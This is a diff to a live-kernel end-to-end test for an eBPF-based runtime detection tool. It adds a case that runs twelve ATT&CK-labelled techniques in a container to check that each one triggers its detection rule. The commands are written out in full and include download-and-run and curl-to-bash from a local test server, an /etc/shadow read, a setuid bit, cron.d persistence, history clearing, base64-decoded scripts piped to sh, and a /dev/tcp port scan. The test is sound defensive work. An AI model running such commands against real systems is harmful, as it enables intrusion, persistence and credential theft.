@@ -1,10 +1,16 @@
 // Live: what detection needs from the bpftrace source (issue 13), against the real
 // kernel: reads of sensitive paths by every route (open, openat, openat2, a path not yet
 // in memory at entry, a path relative to a root cwd) and nothing for other reads; the
-// first exec of a new container attributed to it; syscall sets that name the process.
+// first exec of a new container attributed to it; syscall sets that name the process;
+// the field report's twelve attack techniques, each raising its own rule in a container
+// whose stable baseline knows every binary they use (test/models/techniques.test.ts has
+// the same on synthetic events).
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { randomBytes } from 'node:crypto';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { liveEvents } from '../../collector/sources/bpftrace/index.ts';
@@ -19,6 +25,7 @@ import { createLogger } from '../../collector/logger.ts';
 import type { EventOf, RuntimeEvent } from '../../collector/event.ts';
 import { cgroup2Available, createTestContainer, type TestContainer } from '../support/cgroup.ts';
 import { REPO, bpftraceInstalled, isRoot, requireComponent, waitFor } from '../support/env.ts';
+import { learnThenStable, testEngine } from '../support/events.ts';
 
 describe('e2e: bpftrace source for detection (live kernel)', function () {
   this.timeout(180000);
@@ -140,5 +147,71 @@ time.sleep(2.5)'`);
     assert.ok(ev.process.pid > 0);
     assert.match(ev.process.exe, /python3/);
     assert.match(ev.process.args[0], /python3$/);
+  });
+
+  it('twelve attack techniques: each raises its own rule, though the stable baseline knows every binary they use', async function () {
+    const k = createTestContainer();
+    others.push(k);
+    mineIds.add(k.cgroupId);
+    const T = join(tmp, 'k');
+    mkdirSync(T);
+    writeFileSync(join(T, 'file'), 'x\n');
+    const server: Server = createServer((req, res) => res.end(req.url === '/payload' ? '#!/bin/sh\necho payload\n' : 'echo hi\n'));
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const cron = `/etc/cron.d/hw-test-${randomBytes(4).toString('hex')}`;
+    const e = testEngine();
+    let seen = 0;
+    let clock = (ev: RuntimeEvent): number => ev.time;
+    /** run a script in the container; once its events are in, judge them: the rules of the alerts it raised */
+    const step = async (script: string, n: string): Promise<string[]> => {
+      const r = await k.run(`${script}; /bin/true hw-step-${n}`);
+      assert.equal(r.code, 0, `${n}: ${r.stderr}`);
+      await waitFor(() => events.some((ev) => ev.kind === 'exec' && ev.cgroup?.id === k.cgroupId && ev.process.args[1] === `hw-step-${n}`), { timeoutMs: 30000, what: `the events of step ${n}` });
+      const mine = events.filter((ev) => ev.cgroup?.id === k.cgroupId);
+      const out: string[] = [];
+      for (; seen < mine.length; seen++) for (const u of e.process(mine[seen], clock(mine[seen]))) out.push(`${u.alert.rule}: ${u.alert.summary}${/Also matched: [^.]+/.exec(u.alert.description)?.[0] ?? ''}`);
+      return out;
+    };
+    try {
+      // learning: the workload's own habits, twice
+      const habits = [
+        `cat ${T}/file > /dev/null; chmod 644 ${T}/file; cp ${T}/file ${T}/copy; rm -f ${T}/copy; mkdir -p ${T}/d; touch ${T}/t`,
+        `curl -s -o ${T}/fetch ${url}/data; sh -c 'date +%s' > /dev/null; bash -c 'exit 0'; base64 ${T}/file > /dev/null; echo eAo= | base64 -d > /dev/null`,
+        `uname -m > /dev/null; id -u > /dev/null; groups > /dev/null; uptime > /dev/null; grep -c x ${T}/file > /dev/null; echo > /dev/tcp/127.0.0.1/${url.split(':')[2]}`,
+      ];
+      for (let i = 0; i < 2; i++) for (const [j, h] of habits.entries()) await step(h, `learn-${i}-${j}`);
+      const stableAt = learnThenStable(e, [], Date.now());
+      const start = Date.now();
+      clock = (ev) => stableAt + Math.max(0, ev.time - start);
+      const techniques: [string, string, string][] = [
+        ['T1059.004 shell script', 'drift-exec', `echo 'echo Hello' > ${T}/art.sh; chmod +x ${T}/art.sh; sh ${T}/art.sh`],
+        ['T1105 download and run', 'drift-exec', `curl -s -o ${T}/payload ${url}/payload && chmod +x ${T}/payload && ${T}/payload`],
+        ['T1082 OS discovery', 'discovery-commands', `uname -a >> ${T}/b.txt; cat /etc/issue >> ${T}/b.txt; uptime >> ${T}/b.txt`],
+        ['T1087.001 account discovery', 'discovery-commands', `cat /etc/passwd > ${T}/a.txt; grep 'x:0:' /etc/passwd > /dev/null; groups > /dev/null; id > /dev/null`],
+        ['T1003.008 /etc/shadow read', 'credential-file-read', 'cat /etc/shadow > /dev/null'],
+        ['T1548.001 setuid bit', 'setuid-bit-set', `touch ${T}/evil; chmod u+xs ${T}/evil`],
+        ['T1053.003 cron.d', 'write-system-path', `echo '# habitwatch test' > ${cron}; rm -f ${cron}`],
+        ['T1070.003 history clearing', 'history-tampering', `cat /dev/null > ${T}/.bash_history; rm -f ${T}/.bash_history`],
+        ['T1140 decoded script, run', 'drift-exec', `echo IyEvYmluL3NoCmVjaG8gaGkK | base64 -d > ${T}/dec.sh; chmod +x ${T}/dec.sh; ${T}/dec.sh`],
+        ['T1140 decoded script, piped', 'decoded-pipe-to-shell', 'echo ZWNobyBoaQo= | base64 -d | sh'],
+        ['T1036.005 masquerading directory', 'masquerading', `mkdir -p ${T}/...; cp /bin/sh ${T}/.../sh; ${T}/.../sh -c 'echo hi'`],
+        ['T1059.004 pipe to shell', 'download-pipe-to-shell', `curl -s ${url}/x.sh | bash`],
+        // stable: the scan's destinations are new; unexpected-connect's fan-out is its finding
+        ['T1046 port scan', 'unexpected-connect', `bash -c 'for ((p=1; p<=40; p++)); do echo > /dev/tcp/127.0.0.1/$p; done 2>/dev/null; true'`],
+      ];
+      const failed: string[] = [];
+      for (const [i, [name, rule, script]] of techniques.entries()) {
+        const got = await step(script, `attack-${i}`);
+        if (process.env.HW_DEBUG) console.error(name, got);
+        const ok = got.some((g) => g.startsWith(`${rule}:`) || (g.includes('Also matched') && g.includes(rule) && !g.startsWith('unexpected-')));
+        const newBinary = got.filter((g) => /^unexpected-exec: \S+ executed, never seen/.test(g));
+        if (!ok || newBinary.length > 0) failed.push(`${name}: expected ${rule}, got:\n  ${got.join('\n  ') || '(nothing)'}`);
+      }
+      assert.deepEqual(failed, []);
+    } finally {
+      server.close();
+      rmSync(cron, { force: true });
+    }
   });
 });
